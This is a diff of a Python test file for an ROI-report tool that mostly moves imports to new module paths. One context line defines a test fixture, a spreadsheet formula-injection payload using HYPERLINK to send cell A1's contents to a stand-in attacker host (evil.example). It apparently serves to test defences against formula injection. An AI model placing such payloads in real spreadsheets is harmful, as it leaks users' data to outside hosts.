@@ -17,8 +17,9 @@ from openpyxl import load_workbook
 from test_email import SmtpServer
 from workbooks import GOOD_COST, GOOD_GOAL, GOOD_RESULT, make_workbook
 
-from roi_report import batch
-from roi_report.batch import (
+from roi_report.cli import main
+from roi_report.delivery import batch
+from roi_report.delivery.batch import (
     ClientResult,
     _Progress,
     discover,
@@ -26,8 +27,7 @@ from roi_report.batch import (
     summary_table,
     write_summaries,
 )
-from roi_report.cli import main
-from roi_report.i18n import texts
+from roi_report.pdf.texts import texts
 
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
